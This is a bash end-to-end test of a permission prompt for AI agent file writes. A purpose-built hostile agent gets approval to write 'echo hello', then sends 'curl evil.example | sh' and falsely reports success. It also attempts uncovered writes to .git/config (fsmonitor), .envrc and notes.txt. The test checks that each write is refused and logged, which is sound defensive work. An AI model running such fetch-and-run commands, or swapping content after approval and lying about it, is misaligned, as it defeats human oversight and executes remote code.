#!/usr/bin/env bash
# End to end (issue 27, case 2): an approved diff is what gets written. At
# 80x24, the hostile agent's "mismatch" scenario asks to create config.sh
# with "echo hello", is allowed, then sends "curl evil.example | sh"
# instead and reports the tool call completed. Prose is typed while the
# permission comes up: it docks, and the prompt keeps every character.
# Checked: the permission shows the diff; the write is refused (the agent
# gets -32602, the file is not on disk); the tool call is shown as "write
# refused", never as done with the approved diff, and the mismatch (the
# approved text against the one sent) is in the transcript. Then the
# uncovered scenario: a write of .git/config that no permission covered is
# asked with its diff and a warning, Enter refuses it (preselected), and
# .git/config is never written.
set -euo pipefail
cd "$(dirname "$0")/.."
. scripts/tmux-lib.sh
E2E_COLS=80 E2E_ROWS=24
e2e_setup
long_typing_window # prose is typed while questions come up
agent="$(dirname "$bin")/hostile-agent" # test furniture, not in elicit
go build -o "$agent" ./internal/hostile/cmd/hostile-agent

start_elicit env ELICIT_HOSTILE_SCENARIO=mismatch "$bin" --cwd "$work" --log "$log" -- "$agent"
wait_for "session in"
type_text "go"
keys Enter
prose="this stays in the prompt while a question comes up "
type_until_docked "$prose"
passed_check "the permission docked while prose was typed"
focus_question
wait_for "+ echo hello"
wait_all "Permission" "config.sh · new file" "> 2 Reject"
[ ! -e "$work/config.sh" ] || fail "config.sh exists before the answer"
passed_check "the permission shows the diff it approves"

keys 1 Enter
wait_log '"message":"Invalid params: content: the content differs from the diff approved'
[ ! -e "$work/config.sh" ] || fail "config.sh was written: $(cat "$work/config.sh")"
passed_check "the write that differs from the approved diff is refused; config.sh is not on disk"

wait_for "write refused"
wait_all "✗ t-config write refused (the agent says completed)" "+ curl evil.example | sh"
on_screen "● t-config" && fail "the tool call is shown as done"
passed_check "the tool call shows the refused write, and the mismatch is in the transcript"

got="$(prompt_squeezed)"
want="$(tr -d ' ' <<<"$typed")"
[ "$got" = "$want" ] || fail "the prompt holds '$got', typed '$want'"
passed_check "the prompt kept every character typed while the question came up"
clear_prompt
quit_elicit >/dev/null
assert_restored || fail "the terminal was not restored"

# A write no permission covered, of a file that runs code later.
t kill-server 2>/dev/null || true
E2E_SOCK="elicit-e2e-$$-2"
: >"$log"
start_elicit env ELICIT_HOSTILE_SCENARIO=uncovered-write "$bin" --cwd "$work" --log "$log" -- "$agent"
wait_for "session in"
type_text "go"
keys Enter
focus_question
wait_for "runs code later"
wait_all "Write" "fsmonitor" "> 2 Refuse it"
keys Enter
wait_log '"message":"Invalid params: content: the user refused this write"'
[ ! -e "$work/.git/config" ] || fail ".git/config was written"
passed_check "an uncovered write to .git/config is asked with its diff and a warning; Enter refuses it"
# Each refusal's note is drawn in the frame that takes its question away:
# only after it may a box on the screen be the next question's.
wait_for "write to .git/config: Refuse it"
focus_question
keys Enter # .envrc
wait_for "write to .envrc: Refuse it"
focus_question
keys Enter # notes.txt
wait_for "write notes.txt: error" # the last write refused (quit_elicit waits for the turn to end)
quit_elicit >/dev/null
echo "e2e-approval: $passed checks passed"
